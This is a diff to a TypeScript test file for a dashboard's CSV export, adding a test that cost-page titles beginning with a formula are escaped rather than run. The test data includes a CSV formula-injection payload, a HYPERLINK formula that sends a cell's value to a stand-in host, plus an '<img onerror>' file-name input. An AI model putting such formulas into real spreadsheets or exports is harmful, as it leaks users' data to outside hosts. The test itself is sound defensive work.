@@ -2,6 +2,9 @@
 import { parse } from 'csv-parse/sync'
 import fc from 'fast-check'
 import { expect, test } from 'vitest'
+import type { CostView } from '#contract/figures.ts'
+import type { ShownCost } from '../../dashboards/web/src/show/cost.ts'
+import { costRows } from '../../dashboards/web/src/show/costFile.ts'
 import { csvCell, csvText, fileName } from '../../dashboards/web/src/show/csv.ts'
 
 test.each([
@@ -64,3 +67,24 @@ test.each([
   ['<img onerror=x>', 'img onerror x'],
   ['\u0000', 'file'],
 ])('T11 a file named %j is saved as %j', (asked, saved) => expect(fileName(asked)).toBe(saved))
+
+test('T11 the file of the cost page holds its table, and a title that begins a formula runs nothing', () => {
+  const by = { measured: 150, standard: 0, estimated: -249 }
+  const title = { zh: '=HYPERLINK("http://x?"&A1,"车床")', en: 'x' }
+  const view = {
+    figure: { by, provisional: 0 },
+    lines: [{ line: 'power', cost: -99 }],
+    elements: [{ element: 'electricity', title, known: -99, u2: null, by }],
+  } as unknown as CostView
+  const line = { line: 'power', cost: -99, u2: 1, target: null, by, provisional: 0 }
+  const shown = { cost: -99, u2: 1, target: 9000, lines: [line] } as unknown as ShownCost
+  const words = { t: (key: string) => `@${key}`, title: (both: { zh: string }) => both.zh }
+  const file = csvText(costRows(view, shown, words))
+  const [head, ...rows] = parse(file, { bom: true })
+  expect(head![0]).toBe("'@costPage.line")
+  expect(rows).toEqual([
+    ["'@line.power", '-0.99', '0.01', '', '1.5', '0', '-2.49', '0'],
+    [`'  ${title.zh}`, '-0.99', '', '', '1.5', '0', '-2.49', ''],
+    ["'@costPage.total", '-0.99', '0.01', '90', '1.5', '0', '-2.49', '0'],
+  ])
+})
